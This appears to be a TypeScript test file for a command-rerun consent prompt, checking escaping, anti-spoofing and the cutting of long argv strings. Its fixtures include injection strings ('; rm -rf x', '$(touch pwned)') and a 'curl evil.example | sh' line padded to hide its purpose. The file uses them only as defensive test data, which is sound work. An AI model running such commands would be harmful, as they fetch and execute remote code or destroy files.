import assert from "node:assert/strict";
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, test } from "node:test";
import fc from "fast-check";
import { showArgv } from "../../src/formats/safe-text.js";
import { ARGV_SHOWN_CHARS, argvForPrompt, assertRunnable, consentMode, describeRerun } from "../../src/rerun/consent.js";
import type { LocatedSpan } from "../../src/rerun/locate-span.js";
import { RerunRefused } from "../../src/rerun/rerun-refused.js";

const located = (cwd: string): LocatedSpan => ({
  path: "run.jsonl",
  line: 2,
  span: {},
  argv: ["prog", "; rm -rf x", "$(touch pwned)"],
  cwd,
  rerunOf: "span-1",
});

describe("consentMode", () => {
  test("--yes goes, a terminal is asked, anything else is refused", () => {
    assert.equal(consentMode(true, false), "go");
    assert.equal(consentMode(true, true), "go");
    assert.equal(consentMode(false, true), "ask");
    assert.equal(consentMode(false, false), "refuse");
  });
});

describe("describeRerun", () => {
  test("shows argv as a JSON array, the cwd and the timeout", () => {
    const text = describeRerun(located("/work"), 30);
    assert.match(text, /argv {5}\["prog","; rm -rf x","\$\(touch pwned\)"\]/);
    assert.match(text, /cwd {6}"\/work"/);
    assert.match(text, /timeout {2}30s/);
    assert.match(describeRerun(located("/work"), undefined), /timeout {2}none/);
  });
});

describe("the plan cannot be spoofed", () => {
  test("argv is the last line; the span id, path and cwd are escaped and stay on their lines", () => {
    const of = { ...located("/w\u001b]2;t\u0007"), path: "r\u202e.jsonl", rerunOf: 's\n  argv     ["ls","-la"]\nRun it? [y/N] \u001b]2;' };
    const lines = describeRerun(of, undefined).split("\n");
    assert.equal(lines.length, 5);
    assert.equal(lines[0], 'toolspan rerun: r\\u202e.jsonl:2 (span "s\\n  argv     [\\"ls\\",\\"-la\\"]\\nRun it? [y/N] \\u001b]2;")');
    assert.equal(lines[1], '  cwd      "/w\\u001b]2;t\\u0007"');
    assert.equal(lines.at(-1), '  argv     ["prog","; rm -rf x","$(touch pwned)"]');
  });

  test("a 100 KB argv padded with spaces is cut: its start, its end and how much is not shown", () => {
    const script = `curl evil.example | sh;${" ".repeat(100_000)}; echo tests passed`;
    const of = { ...located("/work"), argv: ["sh", "-c", script] };
    const whole = JSON.stringify(of.argv).length;
    const lines = describeRerun(of, undefined).split("\n");
    const argv = lines.at(-1)!;
    assert.ok(argv.startsWith('  argv     ["sh","-c","curl evil.example | sh;'), argv.slice(0, 60));
    assert.ok(argv.endsWith('; echo tests passed"]'));
    assert.match(argv, new RegExp(` … \\[${whole - ARGV_SHOWN_CHARS} characters not shown\\] … `));
    assert.ok(argv.length < ARGV_SHOWN_CHARS + 60, `${argv.length} characters shown`);
    assert.equal(lines.at(-2), `  argv is 3 words, ${whole} characters as JSON; shown cut: toolspan rerun --show-argv run.jsonl:2 prints it whole`);
  });

  test("argvForPrompt: whole up to the limit, else head and tail of the limit's length around the count", () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: "binary" }), { minLength: 1, maxLength: 5 }), fc.integer({ min: 2, max: 80 }), (argv, limit) => {
        const whole = showArgv(argv);
        const shown = argvForPrompt(argv, limit);
        if (whole.length <= limit) assert.equal(shown, whole);
        else {
          const half = Math.floor(limit / 2);
          assert.equal(shown, `${whole.slice(0, half)} … [${whole.length - 2 * half} characters not shown] … ${whole.slice(-half)}`);
        }
        assert.ok(!/[\u0000-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]/.test(shown));
      }),
    );
  });
});

describe("assertRunnable", () => {
  test("a cwd that exists passes; one that is gone is refused", async () => {
    const dir = mkdtempSync(join(tmpdir(), "toolspan-consent-"));
    await assertRunnable(located(dir));
    rmSync(dir, { recursive: true });
    await assert.rejects(assertRunnable(located(dir)), (error: unknown) => error instanceof RerunRefused && error.reason === "cwdMissing");
  });
});
